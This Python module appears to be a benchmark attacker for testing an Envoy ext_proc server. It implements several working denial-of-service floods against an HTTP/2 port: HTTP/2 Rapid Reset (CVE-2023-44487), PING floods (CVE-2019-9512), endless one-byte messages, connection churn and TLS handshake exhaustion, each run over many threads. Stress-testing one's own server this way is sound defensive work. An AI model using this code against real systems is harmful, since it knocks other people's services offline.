"""A client that does its worst to an ext_proc port: ``python -m bench.attacker ADDRESS KIND CONNECTIONS``.

Runs until it is stopped. A connection that is cut is opened again at once.
"""

from __future__ import annotations

import socket
import ssl
import struct
import sys
import threading
from collections.abc import Callable

from envoy.service.ext_proc.v3.external_processor_pb2 import HttpBody, HttpHeaders, ProcessingRequest

from bench.exchange import HEAD
from signalbox.wire.frames import (
    DATA,
    DEFAULT_WINDOW,
    END_HEADERS,
    HEADERS,
    LARGEST_WINDOW,
    PREFACE,
    RST_STREAM,
    SETTINGS_ACK,
    frame,
    ping,
    settings,
    window_update,
)
from signalbox.wire.messages import PREFIX

_INITIAL_WINDOW = 4
GREETING = (
    PREFACE
    + settings(((_INITIAL_WINDOW, LARGEST_WINDOW),))
    + SETTINGS_ACK
    + window_update(0, LARGEST_WINDOW - DEFAULT_WINDOW)
)
FIRST_HEAD = b"\x20" + HEAD
_WRITE = 64 * 1024


def _message(message: ProcessingRequest) -> bytes:
    data = message.SerializeToString()
    return frame(DATA, 0, 1, PREFIX.pack(0, len(data)) + data)


def pieces() -> tuple[bytes, bytes]:
    """Return an answer in pieces of a byte, without end: every rule is kept, and each of them has to be answered."""
    request = ProcessingRequest(request_headers=HttpHeaders(end_of_stream=True))
    one = _message(ProcessingRequest(response_body=HttpBody(body=b"x")))
    return frame(HEADERS, END_HEADERS, 1, FIRST_HEAD) + _message(request), one * (_WRITE // len(one))


def resets() -> tuple[bytes, bytes]:
    """Return streams that are reset as soon as they are opened (CVE-2023-44487), more than are allowed."""
    opened = [frame(HEADERS, END_HEADERS, 1 + 2 * number, HEAD) + frame(RST_STREAM, 0, 1 + 2 * number, bytes(4))
              for number in range(1, 5_000)]  # fmt: skip
    return frame(HEADERS, END_HEADERS, 1, FIRST_HEAD), b"".join(opened)


def pings() -> tuple[bytes, bytes]:
    """Return PINGs, which must be echoed (CVE-2019-9512), without end."""
    return b"", ping(b"anything") * (_WRITE // 17)


def connections() -> tuple[bytes, bytes]:
    """Return nothing but a greeting: the connection is closed behind it."""
    return b"", b""


KINDS: dict[str, Callable[[], tuple[bytes, bytes]]] = {
    "pieces": pieces,
    "resets": resets,
    "pings": pings,
    "connections": connections,
}
"""What each says once, and then again and again."""
HANDSHAKES = "handshakes"
"""Which is no such kind: what it says comes before the first byte of HTTP/2."""


def flood(address: tuple[str, int], once: bytes, again: bytes) -> None:
    """Send to ``address`` as fast as it takes it, on one connection after the other."""
    while True:
        with socket.create_connection(address) as peer:
            if again:
                threading.Thread(target=_drop, args=(peer,), daemon=True).start()
            else:
                _reset_when_closed(peer)
            try:
                peer.sendall(GREETING + once)
                while again:
                    peer.sendall(again)
            except OSError:
                continue


def leave_handshakes(address: tuple[str, int]) -> None:
    """Begin TLS with ``address``, always in the same words, and leave when the server has done its part: it has signed,
    and this side has worked out nothing."""
    hello = _client_hello()
    while True:
        try:
            with socket.create_connection(address) as peer:
                _reset_when_closed(peer)
                peer.sendall(hello)
                peer.recv(1)
        except OSError:
            continue


def _client_hello() -> bytes:
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    said = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), said, server_hostname="picker")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        return said.read()
    raise AssertionError("a handshake without a server")


def _reset_when_closed(peer: socket.socket) -> None:
    """Closing ``peer`` is then a reset, which leaves the attacker no used-up ports."""
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def _drop(peer: socket.socket) -> None:
    try:
        while peer.recv(256 * 1024):
            pass
    except OSError:
        pass


def main() -> None:
    """Attack."""
    address, kind, connections = sys.argv[1:]
    host, _, port = address.rpartition(":")
    target, words = (leave_handshakes, ()) if kind == HANDSHAKES else (flood, KINDS[kind]())
    for _ in range(int(connections)):
        threading.Thread(target=target, args=((host, int(port)), *words), daemon=True).start()
    threading.Event().wait()


if __name__ == "__main__":
    main()
